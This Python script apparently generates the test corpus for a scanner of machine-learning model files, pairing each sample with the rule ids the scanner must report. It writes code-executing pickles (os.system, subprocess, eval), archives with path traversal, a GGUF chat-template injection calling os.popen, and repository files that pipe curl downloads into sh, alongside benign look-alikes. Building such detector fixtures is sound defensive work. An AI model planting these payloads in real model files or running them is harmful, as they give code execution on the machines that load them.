"""Write the scanner's corpus: malicious samples for the rules the reader
corpora (tests/data/<format>/malicious) do not already cover, and benign
look-alikes that must stay clean. Written with the real writers: pickle,
zipfile, tarfile, gzip, zlib, numpy, gguf. tests/data/scan/expected.json
maps every sample (here and in the reader corpora) to the rule ids the
scanner must report; benign samples map to [].

    ~/.cache/modelgate/venv/bin/python scripts/testdata/make_scan_corpus.py
"""
import collections
import gzip
import io
import json
import os
import pickle
import shutil
import tarfile
import zipfile
import zlib

import gguf
import numpy as np

HERE = os.path.dirname(__file__)
DATA = os.path.join(HERE, "..", "..", "tests", "data")
ROOT = os.path.join(DATA, "scan")


class Exec:
    """Pickles as a call to an arbitrary callable."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def w(sub, name, data):
    path = os.path.join(ROOT, sub, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data)
    return f"scan/{sub}/{name}"


def gguf_with_template(path, template):
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", np.zeros((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def main():
    shutil.rmtree(ROOT, ignore_errors=True)
    expected = {}
    import os as _os, subprocess, builtins, runpy, webbrowser, operator, functools, importlib, timeit, pdb, socket, shutil as _sh
    # Pickle families, written by CPython's pickle through __reduce__.
    for name, obj, protocol in [
        ("eval.pkl", Exec(builtins.eval, "1+1"), 2),
        ("exec_proto0.pkl", Exec(builtins.exec, "print(1)"), 0),
        ("subprocess.pkl", Exec(subprocess.check_output, ["id"]), 4),
        ("runpy.pkl", Exec(runpy.run_path, "/tmp/x.py"), 3),
        ("webbrowser.pkl", Exec(webbrowser.open, "http://example.com"), 2),
        ("operator_attrgetter.pkl", Exec(operator.attrgetter, "system"), 4),
        ("functools_partial.pkl", Exec(functools.partial, print, "x"), 4),
        ("importlib.pkl", Exec(importlib.import_module, "os"), 4),
        ("timeit.pkl", Exec(timeit.timeit, "print(1)"), 4),
        ("pdb.pkl", Exec(pdb.run, "print(1)"), 2),
        ("socket.pkl", Exec(socket.create_connection, ("example.com", 80)), 2),
        ("shutil.pkl", Exec(_sh.rmtree, "/tmp/x"), 2),
        ("getattr.pkl", Exec(builtins.getattr, "text", "upper"), 2),
    ]:
        expected[w("malicious", name, pickle.dumps(obj, protocol=protocol))] = ["pickle.dangerous-import"]
    # partial(print, "x") also references print, which no list names.
    expected["scan/malicious/functools_partial.pkl"].append("pickle.unknown-import")
    # A callable on neither list, invoked: high (the allow list decides).
    expected[w("malicious", "unknown_import.pkl", b"\x80\x02cmy_lib.layers\nCustom\n)R.")] = ["pickle.unsafe-call"]
    # The same name only referenced (a defaultdict's factory, not called while loading): medium.
    expected[w("malicious", "referenced_only.pkl", b"\x80\x02ccollections\ndefaultdict\ncmy_lib\nfactory\n\x85R.")] = ["pickle.unknown-import"]
    # Standard-library callables on no list: a private helper that runs a
    # command (critical) and a logging handler that opens a file (high).
    import uuid, logging
    expected[w("malicious", "private_stdlib.pkl", pickle.dumps(Exec(uuid._get_command_stdout, "id"), protocol=2))] = ["pickle.private-call"]
    expected[w("malicious", "file_handler.pkl", pickle.dumps(Exec(logging.FileHandler, "/tmp/modelgate-x"), protocol=4))] = ["pickle.unsafe-call"]
    # An object of an unlisted class rebuilt through copyreg and given state:
    # its __setstate__ runs.
    expected[w("malicious", "setstate.pkl", b"\x80\x02ccopyreg\n_reconstructor\ncmy_lib\nThing\ncbuiltins\nobject\nN\x87R}\x8c\x01a\x4b\x01sb.")] = ["pickle.unsafe-call"]
    # A legacy joblib array placeholder whose side file climbs out of the
    # model directory (joblib loads it with np.load(allow_pickle=True)).
    from joblib.numpy_pickle_compat import NDArrayWrapper
    escape = NDArrayWrapper("../../../home/user/evil.npy", np.ndarray, allow_mmap=False)
    expected[w("malicious", "joblib_side_file.pkl", pickle.dumps(escape, protocol=2))] = ["pickle.side-file-escape"]
    # getattr on a dangerous class, then a call of the method it finds.
    expected[w("malicious", "getattr_method.pkl",
               b"\x80\x02cbuiltins\ngetattr\ncsubprocess\nPopen\nX\x0b\x00\x00\x00communicate\x86R)R.")] = ["pickle.dangerous-import"]
        # Calling the result of a call.
    expected[w("malicious", "computed_callable.pkl", b"\x80\x02ccollections\nOrderedDict\n)R)R.")] = ["pickle.computed-callable"]
    # Extension registry.
    expected[w("malicious", "ext.pkl", b"\x80\x02\x82\x01)R.")] = ["pickle.extension-registry"]
    # Garbage after a valid pickle: fail closed.
    expected[w("malicious", "trailing_garbage.pkl", pickle.dumps([1, 2], protocol=2) + b"\xffgarbage")] = ["pickle.unparseable"]

    evil = pickle.dumps(Exec(_os.system, "id"), protocol=2)
    # PyTorch zip with an extra pickle member hiding the payload, under an odd folder name.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("weird_name/data.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2))
        z.writestr("weird_name/extra/hidden.pkl", evil)
        z.writestr("weird_name/version", "3")
    expected[w("malicious", "torch_hidden_member.pt", buf.getvalue())] = ["pickle.dangerous-import"]
    # Compressed pickles, as joblib writes them (zlib, gzip) and a tar of them.
    expected[w("malicious", "model.joblib", zlib.compress(evil))] = ["pickle.dangerous-import"]
    expected[w("malicious", "model.pkl.gz", gzip.compress(evil, mtime=0))] = ["pickle.dangerous-import"]
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        for member, data in [("model/weights.pkl", evil), ("../escape.txt", b"x")]:
            info = tarfile.TarInfo(member)
            info.size, info.mtime = len(data), 0
            t.addfile(info, io.BytesIO(data))
    expected[w("malicious", "bundle.tar", tbuf.getvalue())] = ["pickle.dangerous-import", "archive.traversal"]
    # A zip nested in a zip, with the payload inside.
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("payload.pkl", evil)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr("inner.zip", inner.getvalue())
    expected[w("malicious", "nested.zip", outer.getvalue())] = ["pickle.dangerous-import"]
    # Extension lies: a pickle named .safetensors.
    expected[w("malicious", "disguised.safetensors", evil)] = ["pickle.dangerous-import", "format.extension-mismatch"]
    # GGUF chat template injection.
    gguf_with_template(os.path.join(ROOT, "malicious", "ssti.gguf"),
                       "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    expected["scan/malicious/ssti.gguf"] = ["template.dunder-access", "template.gadget-access"]
    # A Hugging Face repository with custom code and an executable.
    repo = "remote_code_repo"
    w("malicious", f"{repo}/config.json", json.dumps({"architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.XModel"}}).encode())
    w("malicious", f"{repo}/modeling_x.py", b"import os\nimport subprocess\n\ndef setup():\n    os.system('curl http://x | sh')\n    subprocess.run(['id'])\n")
    w("malicious", f"{repo}/tokenizer_config.json", json.dumps({"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}).encode())
    w("malicious", f"{repo}/install.sh", b"#!/bin/sh\ncurl http://example.com | sh\n")
    expected[f"scan/malicious/{repo}/config.json"] = ["hf.remote-code"]
    expected[f"scan/malicious/{repo}/modeling_x.py"] = ["hf.custom-code", "code.process"]
    expected[f"scan/malicious/{repo}/tokenizer_config.json"] = ["template.dunder-access"]
    expected[f"scan/malicious/{repo}/install.sh"] = ["hf.executable"]
    # Repository code, one file per rule family.
    for name, code, rule in [
        ("deserialize.py", b"import pickle\n\ndef load(data):\n    return pickle.loads(data)\n", "code.deserialize"),
        ("native.py", b"import ctypes\n\nlib = ctypes.CDLL('libx.so')\n", "code.native"),
        ("download.py", b"from huggingface_hub import hf_hub_download\n\nhf_hub_download('org/model', 'w.bin')\n", "code.download"),
        ("filesystem.py", b"import shutil\n\nshutil.rmtree('/tmp/cache')\n", "code.filesystem"),
        ("environment.py", b"import os\n\nos.environ['LD_PRELOAD'] = 'x.so'\n", "code.environment"),
        ("reflection.py", b"def f(obj, name):\n    return getattr(obj, name)()\n", "code.reflection"),
    ]:
        w("malicious", f"code_repo/{name}", code)
        expected[f"scan/malicious/code_repo/{name}"] = ["hf.custom-code", rule]
    # A shard index naming a file outside the model directory.
    w("malicious", "shard_escape/model.safetensors.index.json", json.dumps(
        {"metadata": {"total_size": 8}, "weight_map": {"w": "../../../etc/passwd"}}).encode())
    expected["scan/malicious/shard_escape/model.safetensors.index.json"] = ["shards.path-escape"]
    # Unknown format behind a model extension.
    expected[w("malicious", "mystery.bin", b"\x00\x01\x02 this is not a model format")] = ["format.unknown"]

    # Benign look-alikes: must stay clean.
    state = collections.OrderedDict(weight=np.zeros((2, 2), dtype=np.float32), step=3)
    expected[w("benign", "numpy_state.pkl", pickle.dumps(state, protocol=4))] = []
    expected[w("benign", "plain_data.pkl", pickle.dumps({"a": [1, 2.5, "x", (1, 2)], "b": {1, 2}, "c": b"bytes"}, protocol=5))] = []
    expected[w("benign", "plain_data.pkl.gz", gzip.compress(pickle.dumps([1, 2, 3]), mtime=0))] = []
    # Time-zone aware pandas data: CPython pickles ZoneInfo._unpickle as
    # getattr(ZoneInfo, '_unpickle'), a method lookup, not a gadget.
    import pandas as pd
    frame = pd.DataFrame({"t": pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin"),
                          "u": pd.date_range("2024-01-01", periods=3, tz="UTC")})
    expected[w("benign", "tz_dataframe.pkl", pickle.dumps(frame, protocol=5))] = []
        # A compressed table is data, not a model (scikit-learn ships many).
    expected[w("benign", "table.csv.gz", gzip.compress(b"a,b\n1,2\n", mtime=0))] = []
    gguf_with_template(os.path.join(ROOT, "benign", "chatml.gguf"),
                       "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
    expected["scan/benign/chatml.gguf"] = []
    np.save(os.path.join(ROOT, "benign", "array.npy"), np.arange(10))
    expected["scan/benign/array.npy"] = []

    # Reader corpora that double as scanner samples.
    expected.update({
        "pickle/malicious/global_reduce.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/inst.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/obj.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/stack_global_memo.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/stack_global_dynamic.pkl": ["pickle.dynamic-import"],
        "pickle/malicious/build_setattr.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/second_pickle.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/newobj_ex.pkl": ["pickle.dangerous-import"],
        "archive/malicious/traversal.zip": ["archive.traversal", "format.unknown"],
        "archive/malicious/tar_traversal.tar": ["archive.traversal", "format.unknown"],
        "archive/malicious/duplicate.zip": ["archive.duplicate-member", "format.unknown"],
        "archive/malicious/mismatch_name.zip": ["archive.header-mismatch", "format.unknown"],
        "archive/malicious/mismatch_size.zip": ["archive.header-mismatch", "format.unknown"],
        "archive/malicious/overlap.zip": ["archive.header-mismatch", "format.unknown", "format.unparseable"],
        "archive/malicious/count_mismatch.zip": ["archive.anomaly", "format.unknown"],
        "archive/malicious/trailing.zip": ["archive.anomaly", "format.unknown", "format.unparseable"],
        "archive/malicious/prepended.zip": ["archive.anomaly", "format.unknown", "format.unparseable", "hf.executable"],
        "archive/malicious/prepended_zip64.zip": ["archive.anomaly", "format.unknown", "hf.executable"],
        "archive/malicious/encrypted.zip": ["archive.unusual-flags", "format.unparseable"],
        "archive/malicious/unusual_flags.zip": ["archive.unusual-flags", "format.unknown"],
        "archive/malicious/symlink.tar": ["archive.link", "format.unknown"],
        "archive/malicious/gzip_bomb.gz": ["format.limit-exceeded"],
        "archive/malicious/bzip2_bomb.bz2": ["format.limit-exceeded"],
        "archive/malicious/xz_bomb.xz": ["format.limit-exceeded"],
        "archive/malicious/zip_bomb.zip": ["format.limit-exceeded"],
        "numpy/malicious/object.npy": ["numpy.object-array"],
        "numpy/malicious/object_field.npy": ["numpy.object-array"],
        "numpy/malicious/object_scalar.npy": ["numpy.object-array"],
        "numpy/malicious/object_compressed.npz": ["numpy.object-array"],
        "numpy/malicious/object_stored.npz": ["numpy.object-array"],
        "keras/malicious/lambda.keras": ["keras.lambda-layer"],
        "keras/malicious/custom_object.keras": ["keras.custom-object"],
        "keras/malicious/legacy_lambda.h5": ["keras.lambda-layer"],
        "gguf/malicious/duplicate_key.gguf": ["gguf.duplicate-key"],
        "gguf/malicious/duplicate_tensor_name.gguf": ["gguf.duplicate-key"],
        "gguf/malicious/overlapping_tensors.gguf": ["gguf.structure"],
        "onnx/malicious/external_traversal.onnx": ["onnx.external-data-escape"],
        "onnx/ok/custom.onnx": ["onnx.custom-domain"],
        "safetensors/malicious/overlap.safetensors": ["safetensors.structure"],
        "safetensors/malicious/gap.safetensors": ["safetensors.structure"],
        "safetensors/malicious/size_mismatch.safetensors": ["safetensors.structure"],
        "safetensors/malicious/out_of_range.safetensors": ["safetensors.structure"],
        "gguf/err/truncated_data.gguf": ["gguf.structure"],
        "pytorch/malicious/tar_storages_payload.tar": ["pickle.dangerous-import"],
        "pytorch/ok/archive.pt": [],
        "pytorch/ok/model.pt": ["pickle.unsafe-call"],
        "pytorch/ok/model_legacy.pt": ["pickle.unsafe-call"],
        "pytorch/ok/torchscript.pt": ["pickle.unsafe-call"],
        "pickle/ok/joblib_arrays.pkl": [],
        "pickle/ok/joblib_unaligned.pkl": [],
        "pickle/malicious/joblib_between.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/joblib_after.pkl": ["pickle.dangerous-import"],
        "pickle/malicious/joblib_object_array.pkl": ["pickle.dangerous-import"],
        "pytorch/ok/nested.pt": [],
        "pytorch/ok/legacy.pt": [],
        "pytorch/ok/legacy.tar": [],
        "safetensors/ok/numpy.safetensors": [],
        "onnx/ok/mlp.onnx": [],
        "keras/ok/sequential.keras": [],
        "keras/ok/functional.keras": [],
        "keras/ok/legacy_sequential.h5": [],
        "numpy/ok/compressed.npz": [],
        "numpy/ok/structured.npy": [],
        "gguf/ok/quantized.gguf": [],
    })
    json.dump(expected, open(os.path.join(ROOT, "expected.json"), "w"), indent=1, sort_keys=True)


if __name__ == "__main__":
    main()
